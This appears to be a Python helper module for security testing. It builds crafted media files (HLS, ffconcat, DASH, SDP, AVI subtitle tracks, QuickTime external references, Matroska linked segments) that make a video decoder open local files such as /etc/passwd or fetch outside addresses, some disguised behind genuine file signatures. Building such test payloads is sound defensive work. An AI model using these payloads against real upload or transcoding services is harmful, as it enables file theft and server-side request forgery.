"""Films and sounds that would have their decoder open other files and addresses."""

import io
import struct
import subprocess
from pathlib import Path

from PIL import Image

SECRET = "/etc/passwd"


def hls(target: str) -> bytes:
    """A playlist whose only segment lies at this address."""
    return f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{target}\n#EXT-X-ENDLIST\n".encode()


def hls_of_two(target: str, canary: str) -> bytes:
    """The classic: the secret is read as a part of the address the next segment is asked from."""
    return f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:{canary}|subfile,,start,0,end,64,,:{target}\n#EXT-X-ENDLIST\n".encode()


def hls_with_a_key(address: str) -> bytes:
    """A playlist that fetches the key for its segment from this address."""
    return f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{address}"\n#EXTINF:10.0,\n{SECRET}\n#EXT-X-ENDLIST\n'.encode()


def concat(target: str) -> bytes:
    """A list of films to be played one after the other."""
    return f"ffconcat version 1.0\nfile '{target}'\n".encode()


def dash(address: str) -> bytes:
    """A manifest that names an address."""
    return f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>{address}</BaseURL></MPD>'.encode()


def sdp(address: str) -> bytes:
    """A session to be joined at this address, by RTP."""
    host, port = address.removeprefix("http://").split("/")[0].split(":")
    return f"v=0\no=- 0 0 IN IP4 {host}\ns=x\nc=IN IP4 {host}\nt=0 0\nm=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n".encode()


def behind(signature: bytes, playlist: bytes) -> bytes:
    """A playlist after the first bytes of something honest."""
    return signature + b"\n" + playlist


SIGNATURES = {
    "mp4": b"\0\0\0\x20ftypisom\0\0\x02\0isomiso2avc1mp41",
    "mov": b"\0\0\0\x14ftypqt  \0\0\x02\0qt  ",
    "avi": b"RIFF\xff\xff\x00\x00AVI LIST\x10\0\0\0hdrlavih\x38\0\0\0" + bytes(56),
    "mkv": b"\x1a\x45\xdf\xa3\x93\x42\x82\x88matroska\x42\x87\x81\x04\x42\x85\x81\x02",
    "webm": b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x84webm",
    "ogg": b"OggS\0\x02" + bytes(20) + b"\x01\x1e\x01vorbis",
    "wav": b"RIFF\xff\xff\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x44\xac\0\0\x88\x58\x01\0\x02\0\x10\0data\xff\xff\0\0",
    "mp3": b"ID3\x04\0\0\0\0\0\0\xff\xfb\x90\x64",
    "aac": b"\xff\xf1\x50\x80\x2e\x7f\xfc",
}


def avi_with_subtitles(playlist: bytes, *, with_picture: bool) -> bytes:
    """An AVI whose subtitle track carries a whole file that ffmpeg once looked into and opened: the playlist."""
    frame = _jpeg()
    streams = [_stream(b"txts", b"\0\0\0\0", b"")]
    chunks = [_chunk(b"00tx", _gab2(playlist))]
    if with_picture:
        form = struct.pack(
            "<IiiHHIIiiII", 40, 64, 64, 1, 24, int.from_bytes(b"MJPG", "little"), 64 * 64 * 3, 0, 0, 0, 0
        )
        streams = [_stream(b"vids", b"MJPG", form), *streams]
        chunks = [_chunk(b"01tx", _gab2(playlist)), *[_chunk(b"00dc", frame)] * 20]
    main = struct.pack("<14I", 100_000, 100_000, 0, 0x10, 20, 0, len(streams), len(frame), 64, 64, 0, 0, 0, 0)
    header = _list(b"hdrl", _chunk(b"avih", main) + b"".join(streams))
    whole = b"AVI " + header + _list(b"movi", b"".join(chunks))
    return b"RIFF" + struct.pack("<I", len(whole)) + whole


def _gab2(content: bytes) -> bytes:
    title = "x\0".encode("utf-16-le")
    return (
        b"GAB2\0" + struct.pack("<HI", 2, len(title)) + title + struct.pack("<HI", 4, len(content)) + content
    )


def _stream(kind: bytes, codec: bytes, form: bytes) -> bytes:
    words = struct.pack(
        "<4s4sIHHIIIIIIIIHHHH", kind, codec, 0, 0, 0, 0, 1, 10, 0, 20, 4096, 0, 0, 0, 0, 64, 64
    )
    return _list(b"strl", _chunk(b"strh", words) + _chunk(b"strf", form))


def _list(name: bytes, content: bytes) -> bytes:
    return _chunk(b"LIST", name + content)


def _chunk(name: bytes, content: bytes) -> bytes:
    return name + struct.pack("<I", len(content)) + content + bytes(len(content) % 2)


def _jpeg() -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (64, 64), "navy").save(file, "JPEG")
    return file.getvalue()


def made_by_ffmpeg(folder: Path, name: str, *arguments: str, seconds: float = 1.0) -> bytes:
    """A real film with sound, encoded like this."""
    target = folder / name
    picture = ["-f", "lavfi", "-i", f"testsrc2=size=128x72:rate=10:duration={seconds}"]
    sound = ["-f", "lavfi", "-i", f"sine=frequency=440:duration={seconds}"]
    command = ["ffmpeg", "-v", "error", "-y", "-threads", "1", *picture, *sound, *arguments, str(target)]
    subprocess.run(command, check=True)
    return target.read_bytes()


def with_external_data(film: bytes, kind: bytes, target: str) -> bytes:
    """A film whose every track says that its data lie elsewhere: at an address (`url `) or in a file (`alis`)."""
    whole, start = film, 0
    content = target.encode() + b"\0" if kind == b"url " else _alias(target)
    while (at := whole.find(b"dref", start)) >= 0:
        entry = struct.pack(">I4sI", 12 + len(content), kind, 0) + content
        old = int.from_bytes(whole[at + 12 : at + 16])
        grown = whole[: at + 12] + entry + whole[at + 12 + old :]
        whole, start = _longer(grown, at, len(entry) - old), at + 12 + len(entry)
    return whole


def _alias(target: str) -> bytes:
    """The record by which old QuickTime finds a file: a volume, a folder, and the path in its 18th tag."""
    path, name = target.encode(), target.rsplit("/", 1)[-1].encode()
    head = struct.pack(">IHH B27s IHHI B63s", 0, 0, 2, 1, b"/", 0, 0x482B, 0, 0, len(name), name)
    rest = struct.pack(">IIIhhIH10x", 0, 0, 0, -1, -1, 0, 0)
    tags = struct.pack(">HH", 18, len(path)) + path + bytes(len(path) % 2) + struct.pack(">hH", -1, 0)
    return (head + rest + tags).ljust(200, b"\0")


def _longer(film: bytes, inside: int, by: int) -> bytes:
    """Let every box around this place be so much longer."""
    whole, start, end = bytearray(film), 0, len(film)
    while start + 8 <= end:
        size, name = struct.unpack_from(">I4s", whole, start)
        if not start < inside < start + size:
            start += size
            continue
        struct.pack_into(">I", whole, start, size + by)
        if name == b"dref":
            break
        start += 8
    return bytes(whole)


def with_linked_segments(mkv: bytes, address: str) -> bytes:
    """A Matroska film that says its next part lies in another file."""
    info = mkv.index(b"\x15\x49\xa9\x66")
    linked = b"\x3e\xb9\x23\x90" + b"\x11" * 16 + b"\x3e\x83\xbb" + _ebml(address.encode())
    head, size = info + 4, mkv[info + 4]
    width = 9 - size.bit_length()
    length = int.from_bytes(mkv[head : head + width]) & ((1 << 7 * width) - 1)
    body = mkv[head + width : head + width + length] + linked
    # Written with the longest length there is, and the segment around it with an unknown one.
    grown = mkv[:head] + b"\x01" + len(body).to_bytes(7, "big") + body + mkv[head + width + length :]
    segment = grown.index(b"\x18\x53\x80\x67") + 4
    return grown[:segment] + b"\x01" + b"\xff" * 7 + grown[segment + 8 :]


def _ebml(content: bytes) -> bytes:
    return bytes([0x40 | len(content) >> 8, len(content) & 255]) + content
